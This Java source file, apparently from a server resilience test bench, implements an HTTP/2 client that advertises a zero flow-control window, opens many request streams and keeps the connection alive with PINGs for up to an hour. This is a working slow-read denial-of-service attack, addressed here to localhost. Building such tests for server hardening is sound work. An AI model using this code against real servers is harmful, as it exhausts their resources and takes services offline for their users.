package dev.breakwater.bench;

import dev.breakwater.bench.Attack.Aim;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.locks.LockSupport;

/**
 * An HTTP/2 client (RFC 9113, with prior knowledge) that asks for much and lets none of it be sent: its initial window is 0. It shows
 * that it is alive by a PING each second. Fields are written as HPACK literals without an index (RFC 7541, 6.2.2).
 */
final class Windowless {
    private static final int SETTINGS = 4;
    private static final int HEADERS = 1;
    private static final int PING = 6;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final int LONGEST = 3600;

    private Windowless() {}

    /** Asks {@code times} times for one path, and holds the streams open. */
    static void ask(Aim aim, String path, int times) throws IOException {
        try (Stranger stranger = aim.connect()) {
            stranger.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
            byte[] noWindow = {0, 4, 0, 0, 0, 0}; // SETTINGS_INITIAL_WINDOW_SIZE = 0
            stranger.send(frame(SETTINGS, 0, 0, noWindow));
            byte[] fields = fields(aim, path);
            for (int i = 0; i < times; i++) {
                stranger.send(frame(HEADERS, END_STREAM_AND_HEADERS, 2 * i + 1, fields));
            }
            for (int i = 0; i < LONGEST; i++) {
                stranger.send(frame(PING, 0, 0, new byte[8]));
                LockSupport.parkNanos(Duration.ofSeconds(1).toNanos());
            }
        }
    }

    private static byte[] fields(Aim aim, String path) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0x82); // :method GET
        out.write(0x86); // :scheme http
        literal(out, 4, aim.bytes(path)); // :path
        literal(out, 1, ("127.0.0.1:" + aim.port()).getBytes(StandardCharsets.US_ASCII)); // :authority
        return out.toByteArray();
    }

    private static void literal(ByteArrayOutputStream out, int name, byte[] value) throws IOException {
        out.write(name);
        out.write(value.length); // below 127
        out.write(value);
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
